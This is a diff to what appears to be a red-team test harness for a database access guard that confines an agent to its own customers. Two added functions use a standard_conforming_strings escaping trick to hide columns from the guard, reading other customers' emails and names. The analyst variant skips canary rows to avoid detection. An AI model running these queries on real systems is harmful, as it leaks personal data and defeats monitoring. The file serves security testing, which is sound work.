@@ -2032,6 +2032,58 @@ def t_budget_race(ctx: Ctx) -> None:
     ctx.out.notes.append(f"own customers: {len(mine)}")
 
 
+@technique("rows")
+def t_scs_off_expressions(ctx: Ctx) -> None:
+    """The standard_conforming_strings differential again, with expressions rather than plain
+    columns (a RowDescription then names no table column), and the switch made in the same
+    simple-query string as the statement it changes."""
+    leak = ("SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
+            "FROM customers WHERE customer_id BETWEEN {a} AND {b} AND customer_id <> ALL('{{777,1555,2333,2999,3111}}') -- */")  # fmt: skip
+    c = ctx.connect(options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    r = ctx.q(c, leak.format(a=1, b=1100))
+    ctx.out.notes.append(f"startup option: {r!r:.100}")
+    c2 = ctx.connect()
+    r = ctx.q(c2, "SET standard_conforming_strings = off; " + leak.format(a=1101, b=2200))
+    ctx.out.notes.append(f"same string: {r!r:.100}")
+    c3 = ctx.connect()
+    ctx.q(c3, "BEGIN")
+    ctx.q(c3, "SET LOCAL standard_conforming_strings = off")
+    r = ctx.q(c3, leak.format(a=2201, b=N_ALL))
+    ctx.out.notes.append(f"SET LOCAL: {r!r:.100}")
+    ctx.q(c3, "ROLLBACK")
+
+
+@technique("rows")
+def t_analyst_scs_off_expressions(ctx: Ctx) -> None:
+    """The analyst: the standard_conforming_strings differential with expressions, canaries
+    left out."""
+    ctx.out.analyst = True
+    leak = ("SELECT 'A\\' /* ', customer_id + 0 AS k, \"Email\" || '' AS e, \"FullName\" || '' AS n "
+            "FROM customers WHERE tier = 'vip' AND customer_id <> 3111 -- */")  # fmt: skip
+    c = ctx.connect(sdb.ANALYST, options="'-c statement_timeout=30000 -c standard_conforming_strings=off'")
+    r = ctx.q(c, leak)
+    ctx.out.notes.append(f"startup option: {r!r:.100}")
+    c2 = ctx.connect(sdb.ANALYST)
+    r = ctx.q(c2, "SET standard_conforming_strings = off; " + leak)
+    ctx.out.notes.append(f"same string: {r!r:.100}")
+
+
+@technique("rows")
+def t_honest_sjis_client(ctx: Ctx) -> None:
+    """Honest use from a client whose encoding is Shift-JIS (a Japanese helpdesk desktop): the
+    agent's own customer, with and without a Japanese literal in the statement."""
+    k = min(ctx.env.ds.need_to_know(ATTACKER))
+    c = ctx.connect(options="'-c statement_timeout=30000 -c client_encoding=SJIS'")
+    for q in (f'SELECT customer_id, "Email" FROM customers WHERE customer_id = {k}',
+              "SELECT '表示' AS label",
+              f"SELECT customer_id, \"Email\", '表示' AS label FROM customers WHERE customer_id = {k}",
+              f"SELECT customer_id, \"Email\" FROM customers WHERE customer_id = {k} AND region <> '東京'"):  # fmt: skip
+        if ctx.q(c, q) is None:
+            ctx.out.notes.append(
+                f"refused: {q[:70]} -> {ctx.out.error_samples[-1][:140] if ctx.out.error_samples else ''}"
+            )
+
+
 # --- the honest agent ------------------------------------------------------------------------
 
 
